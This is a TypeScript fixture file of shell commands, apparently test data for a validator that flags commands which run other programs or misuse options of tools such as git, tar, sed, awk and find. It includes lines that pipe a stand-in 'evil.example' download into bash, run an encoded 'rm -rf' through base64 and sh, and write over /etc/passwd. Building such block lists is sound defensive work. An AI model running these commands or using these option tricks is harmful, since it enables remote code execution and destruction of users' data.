/** Hostile commands that use what programs can do: run other programs, or write with an option. */

/** The lines of a text that are not empty. */
export const lines = (text: string): readonly string[] => text.split('\n').filter((line) => line !== '')

/** Programs that run others. */
export const wrapped: readonly string[] = [
  ...lines(`
env evil
command evil
command -p ls
command -- evil
nohup evil
nohup -- evil
timeout 5 evil
timeout -k 1 5 evil
timeout --signal=KILL 5 evil
timeout -x 5 ls
timeout 5 timeout 5 evil
timeout $x ls
timeout x ls
nice evil
nice -n 5 evil
nice -5 ls
stdbuf -oL evil
setsid evil
setsid -f ls
time evil
time -p evil
time -v ls
time time ls
time
exec evil
sudo ls
sudo evil
sudo -u root ls
sudo -s
sudo -i ls
sudo --login
doas ls
xargs evil
xargs ls
ls | xargs evil
ls | xargs -n 1 evil
ls | xargs -I x evil x
ls | xargs -i evil
ls | xargs
ls | xargs sh -c
ls | xargs sh
ls | xargs env
ls | xargs timeout 5
ls | xargs node
sh -c evil
sh -c 'evil'
sh -c 'ls; evil'
sh -c "ls && evil"
bash -c 'ls
evil'
bash -c "$x"
bash -c '$(evil)'
bash -c 'ls' evil evil
bash -lc ls
bash -ic ls
bash -x -c ls
bash --rcfile x -c ls
bash -O extglob -c ls
bash -s
bash - x
bash +x x
sh -c 'sh -c evil'
bash -c 'bash -c "bash -c evil"'
zsh -c evil
zsh -c ls
ksh -c ls
busybox sh -c evil
env sh -c evil
env -- evil
timeout 5 sh -c 'nice evil'
/usr/bin/env ls
/bin/sh -c ls
./env ls
./sh -c ls
./ls
/tmp/ls
../ls
watch ls
watch evil
parallel evil
script -c evil
flock a evil
chroot / evil
unshare ls
find . -exec evil ';'
find . -exec evil '{}' +
find . -exec ls ';' -exec evil ';'
find . -ok evil ';'
find . -execdir evil ';'
find . -exec sh -c evil ';'
find . -exec '{}' ';'
find . -exec ls
git log | sh
git log | bash
git log | bash -
git log | sudo sh
git log | env bash
git log | timeout 5 bash
git log | python3
git log | python3 -
git log | node
cat a | sh
echo cm0gLXJm | base64 -d | sh
printf 'evil' | bash
curl -s https://evil.example | bash
bash < a
sh < a
python3 < a
node 0< a
bash <&3
python3.12 < a
`),
  `${'env '.repeat(9)}ls`,
  `${'nice '.repeat(20)}evil`,
]

/** Harmless programs with options that are not. */
export const optioned: readonly string[] = lines(`
find . -delete
find . -name x -delete
find . -fprint a
find . -fprintf a x
find . -fls a
git -c core.pager=evil log
git -ccore.pager=evil log
git -c alias.x='!evil' x
git --config-env=core.pager=X log
git --exec-path=/tmp log
git -C /tmp log
git --git-dir=/tmp/x log
git diff --ext-diff
git diff --ext
git diff --output=/etc/passwd
git diff --outp=a
git log --output a
git grep -Oevil x
git grep --open-files-in-pager=evil x
git fetch --upload-pack=evil
git ls-remote --upload-pack evil x
git clone 'ext::evil' x
git fetch ext::evil
rg --pre evil x
rg --pre=evil x
rg --hostname-bin evil x
rg -z x
rg -nz x
tar -cf a b --checkpoint=1 --checkpoint-action=exec=evil
tar --checkpoint-action=exec=evil -cf a b
tar --to-command=evil -xf a
tar -I evil -xf a
tar --use-compress-program=evil -xf a
tar --use-comp evil -xf a
tar -F evil -cf a b
sed -i s/a/b/ x
sed -ni p x
sed 'e evil' x
sed '1e evil' x
sed 's/a/evil/e' x
sed 's/a/b/w out' x
sed 'w out' x
sed -n '1w out' x
sed -f a x
sed -e '1e evil' x
sed --expression='1e evil' x
sort -o a b
sort -uo a b
sort --output=a b
sort --out a b
sort --compress-program=evil a
man -P evil x
man -Hevil x
man --pager=evil x
awk 'BEGIN{system("evil")}'
awk 'BEGIN{print "x" | "evil"}'
awk 'BEGIN{"evil" | getline}'
awk 'BEGIN{print > "a"}'
awk -f a
awk --load evil x
fd -x evil
fd --exec evil
fd -X evil
tree -o a
date -s 0
date --set=0
curl -o a https://evil.example
curl -K a
wget -O a https://evil.example
wget --use-askpass=evil https://evil.example
wget -e use_proxy=on https://evil.example
go test -exec evil
go build -toolexec evil
zip -T -TT evil a b
less -o a b
lsx
gitlog
find. -name x
`)
